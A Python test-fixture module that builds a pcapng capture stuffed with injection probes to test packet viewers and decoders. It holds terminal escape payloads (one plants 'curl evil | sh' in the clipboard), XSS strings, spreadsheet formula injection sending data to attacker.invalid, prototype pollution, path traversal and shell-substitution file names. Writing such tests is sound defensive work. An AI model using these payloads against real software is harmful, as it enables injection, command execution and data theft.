"""A capture that attacks whoever shows it: terminals, pages, spreadsheets, JSON, file names.

    capture = attack()              # a pcapng file, in memory
    PROBES["html"]                  # what its payloads, heads and names are made of

Every place that can carry text from the wire carries every probe: targets, names and values of
fields, reasons, chunks and their extensions, trailers, fields of events, messages, close reasons,
and what a pcapng file says of itself. A page that runs any of it sets ``window.attacked``, shows a
dialog, or asks ``attacker.invalid`` for something. A probe that a grammar does not allow where it
stands is there all the same: decoders go on, and what they say of it is shown too.
"""

from __future__ import annotations

import gzip
from itertools import chain

from .capture_files import Blocks, option
from .talk import Talk, Tape
from .websocket_frames import KEY, deflated, frame

PROBES: dict[str, tuple[str, ...]] = {
    "terminal": (
        "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # OSC 52: into the clipboard
        "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m",  # title, erase, colour
        "\x9b31m\x9d0;owned\x9c\x85next\x90q\x9c",  # C1: CSI, OSC, ST, NEL, DCS
        "\x1b]8;;https://attacker.invalid\x1b\\link\x1b]8;;\x1b\\",  # OSC 8: a link
        "a\rb\x08c\x7fd\x0be\x0cf\x00g\x07",  # overwrite, erase, bell
        "\u202egnp.exe\u2066\u2069\u200f\ufeff\u2028\u2029\U000e0041",  # bidi, tags, line ends
        "\x1bP+q544e\x1b\\\x1b[6n\x1b[c",  # reports that come back as input
    ),
    "html": (
        "<script>window.attacked=1</script>",
        "</script><script>window.attacked=1</script>",
        "--></title></style></textarea><img src=x onerror=window.attacked=1>",
        "\"'><svg onload=window.attacked=1>",
        "javascript:window.attacked=1",
        "${window.attacked=1}`${alert(1)}`{{constructor.constructor('window.attacked=1')()}}",
        '" autofocus onfocus="window.attacked=1" x="',
        "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
        "<base href=https://attacker.invalid/><link rel=stylesheet href=//attacker.invalid/x.css>",
        "<style>*{background:url(https://attacker.invalid/css)}</style>",
        "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
        "<!--<script>",
        "</script\u2028><img src=//attacker.invalid/x.png onerror=alert(1)>",
        "&lt;script&gt;window.attacked=1&lt;/script&gt;",
        "<math><mtext></mtext><mglyph><style></math><img src onerror=window.attacked=1>",
    ),
    "spreadsheet": (
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("https://attacker.invalid/?"&A1,"click")',
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
        'a","=1+1',
    ),
    "json": (
        "__proto__",
        '{"__proto__":{"attacked":1},"constructor":{"prototype":{"attacked":1}}}',
        '"},"attacked":{"a":"',
        "\\u0022\\u003cscript\\u003e",
        "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
        "]" * 50 + "[" * 500,
        "1e999999",
    ),
    "name": (
        "../../../../etc/passwd",
        "..\\..\\windows\\system32",
        "/etc/passwd\x00.png",
        "-rf",
        "--output=/tmp/owned",
        "$(touch owned)`touch owned`;touch owned|touch owned",
        "%2e%2e%2f%2e%2e%2f",
        "CON.txt",
        "file:///etc/passwd",
    ),
}
ALL = tuple(chain.from_iterable(PROBES.values()))

TARGET = "/attack?{}"


def token(probe: str) -> str:
    """What of a probe can stand in a target or a name without ending it."""
    return probe.translate({ord(char): "+" for char in " \r\n\0"})


def one_line(probe: str) -> str:
    """What of a probe can stand in a line."""
    return probe.translate({ord(char): " " for char in "\r\n"})


def quoted(probe: str) -> str:
    """A probe as a quoted-string (RFC 9110 section 5.6.4)."""
    escaped = one_line(probe).replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


def request(target: str, *fields: str, method: str = "GET") -> bytes:
    head = "\r\n".join([f"{method} {target} HTTP/1.1", "Host: victim.example", *fields])
    return head.encode() + b"\r\n\r\n"


def response(status: str, *fields: str) -> bytes:
    return "\r\n".join([f"HTTP/1.1 {status}", *fields]).encode() + b"\r\n\r\n"


def chunk(data: bytes, extension: str = "") -> bytes:
    return b"%x%b\r\n%b\r\n" % (len(data), extension.encode(), data)


def attack() -> bytes:
    """Return the capture as a pcapng file."""
    tape = Tape()
    ports = iter(range(41_000, 42_000))
    for index, probe in enumerate(ALL):
        _heads(Talk(tape, client_port=next(ports)).open(), probe, index)
    _chunks(Talk(tape, client_port=next(ports)).open())
    _events(Talk(tape, client_port=next(ports)).open())
    _page(Talk(tape, client_port=next(ports)).open())
    _messages(Talk(tape, client_port=next(ports)).open(), compressed=False)
    _messages(Talk(tape, client_port=next(ports)).open(), compressed=True)
    return _file(tape)


def _heads(talk: Talk, probe: str, index: int) -> None:
    """A probe as the target, as the name and the value of a field, as the reason."""
    line = one_line(probe)
    talk.client(
        request(
            TARGET.format(token(probe)),
            f"X-Probe-{index}: {line}",
            f"{token(probe).replace(':', '')}: as a name",
            f"Cookie: {line}={line}",
            f"Referer: {line}",
        )
    )
    talk.server(
        response(
            f"200 {line}",
            f"Content-Type: {line}",
            f"Content-Disposition: attachment; filename={line}",
            f"Set-Cookie: {line}={line}; Path={line}",
            f"Location: {line}",
            "Content-Length: 2",
        )
        + b"ok"
    )
    talk.close()


def _chunks(talk: Talk) -> None:
    """Probes as chunks, in the extensions of chunks, and as trailers."""
    talk.client(request("/chunked"))
    talk.server(
        response("200 OK", "Content-Type: text/html", "Transfer-Encoding: chunked"),
        *(chunk(probe.encode()) for probe in ALL),
        *(chunk(b"extended", f";probe={quoted(probe)}") for probe in PROBES["html"]),
    )
    trailers = "".join(f"X-Trailer-{n}: {one_line(probe)}\r\n" for n, probe in enumerate(ALL))
    talk.server(b"0\r\n" + trailers.encode() + b"\r\n")
    talk.close()


def _events(talk: Talk) -> None:
    """Probes as comments, types, ids, data and names of fields of an event stream."""
    talk.client(request("/events", "Accept: text/event-stream"))
    head = response("200 OK", "Content-Type: text/event-stream", "Transfer-Encoding: chunked")
    talk.server(head)
    for probe in ALL:
        line = one_line(probe)
        block = f": {line}\nevent: {line}\nid: {line}\n{line}: as a name\ndata: {line}\n\n"
        talk.server(chunk(block.encode()))
    talk.server(b"0\r\n\r\n")
    talk.close()


def _page(talk: Talk) -> None:
    """A page and an image that attack, compressed."""
    talk.client(request("/page.html"))
    body = gzip.compress("".join(PROBES["html"]).encode(), mtime=0)
    coded = ("Content-Encoding: gzip", f"Content-Length: {len(body)}")
    talk.server(response("200 OK", "Content-Type: text/html", *coded) + body)
    talk.client(request("/image.svg"))
    image = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.attacked=1"/>'
    kind = "Content-Type: image/svg+xml"
    talk.server(response("200 OK", kind, f"Content-Length: {len(image)}") + image)
    talk.close()


def _messages(talk: Talk, *, compressed: bool) -> None:
    """Probes as messages of both sides, and as the reason of a close."""
    extension = ["Sec-WebSocket-Extensions: permessage-deflate"] if compressed else []
    switch = ("Upgrade: websocket", "Connection: Upgrade")
    talk.client(
        request(
            "/ws",
            *switch,
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
            *extension,
        )
    )
    accept = "Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo="
    # Without a window that is kept, each message can be compressed by itself.
    answer = [
        f"{line}; server_no_context_takeover; client_no_context_takeover" for line in extension
    ]
    talk.server(response("101 Switching Protocols", *switch, accept, *answer))
    for probe in ALL:
        payload = probe.encode()
        rsv = 4 if compressed else 0
        payload = deflated(payload) if compressed else payload
        talk.server(frame(1, payload, rsv=rsv))
        talk.client(frame(2, payload, rsv=rsv, key=KEY))
        talk.client(frame(9, probe.encode()[:125], key=KEY))
    reason = (PROBES["terminal"][0] + PROBES["html"][0]).encode()[:123]
    talk.server(frame(8, (1000).to_bytes(2, "big") + reason))
    talk.client(frame(8, (1000).to_bytes(2, "big"), key=KEY))
    talk.close()


def _file(tape: Tape) -> bytes:
    """The packets, in a file whose own texts attack too."""
    ng = Blocks()
    probes = [probe.replace("\0", " ").encode() for probe in ALL]
    section = b"".join(option(code, text) for text in probes for code in (1, 2, 3, 4))
    interface = b"".join(option(code, text) for text in probes for code in (1, 2, 3))
    found = [
        ng.section(section + option(0, b"")),
        ng.interface(1, 262_144, interface + option(9, b"\x09") + option(0, b"")),
    ]
    for number, time_ns, _, original, data in tape.packets:
        assert time_ns is not None
        comment = option(1, probes[number % len(probes)]) + option(0, b"")
        found.append(ng.enhanced(time_ns, data, original=original, options=comment))
    return b"".join(found)
